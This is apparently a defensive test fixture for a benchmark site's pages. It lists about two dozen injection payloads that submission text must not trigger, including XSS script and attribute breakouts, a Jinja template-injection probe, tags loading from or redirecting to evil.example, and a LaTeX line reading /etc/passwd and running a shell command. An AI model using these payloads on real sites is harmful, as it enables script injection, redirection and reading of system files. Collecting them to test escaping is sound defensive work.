"""Text that would be more than text on a page, in a script, in a style, in a spreadsheet, in a terminal or in a log."""

from attacks.promises import Promise

ATTACKS = {
    "a script": "<script>window.owned=1</script>",
    "a script that ends another one": "</script><script>window.owned=1</script>",
    "an attribute's end": '"><img src=x onerror="window.owned=1">',
    "an attribute's end in single quotes": "'><img src=x onerror='window.owned=1'>",
    "an attribute more": '" onmouseover="window.owned=1" autofocus onfocus="window.owned=1" x="',
    "an attribute more, without quotes": " onload=window.owned=1 ",
    "an address that is a script": "javascript:window.owned=1",
    "an address that is a page": "data:text/html,<script>window.owned=1</script>",
    "a template of Jinja": "{{7919*7907}}{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "a template of JavaScript": "${window.owned=1}`",
    "the end of a string in JavaScript": "\\';window.owned=1;//\\\";window.owned=1;//",
    "the end of a style": "</style><style>*{display:none}</style>",
    "the end of a title": "</title><script>window.owned=1</script>",
    "the end of a picture": "</text></svg><svg onload=window.owned=1><foreignObject>",
    "the end of a comment": "--><script>window.owned=1</script><!--",
    "the end of CDATA": "]]><script>window.owned=1</script>",
    "a frame": "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
    "an object": "<object data=https://evil.example/x><embed src=https://evil.example/x>",
    "another base of links": "<base href=https://evil.example/>",
    "another page": "<meta http-equiv=refresh content=0;url=https://evil.example/>",
    "a form": "<form action=https://evil.example/><input name=q autofocus></form>",
    "entities": "&lt;script&gt;window.owned=1&lt;/script&gt;&#60;script&#62;",
    "a cell's end in Markdown": "| x | [a](javascript:alert(1)) | `",
    "a command of LaTeX": "\\input{/etc/passwd}$^{\\write18{id}}$",
    "an address of a picture": "<img src=https://evil.example/x.png>",
}

PROMISE = Promise(
    what="Text of a submission stays text in every field of every page: no element comes of it, nothing runs, nothing is loaded.",
    stops="templates that escape all text, and a policy that allows no script but ours (clirbench/board/site/build.py)",
    attacks=len(ATTACKS),
    test="tests/test_attacks_pages.py",
)
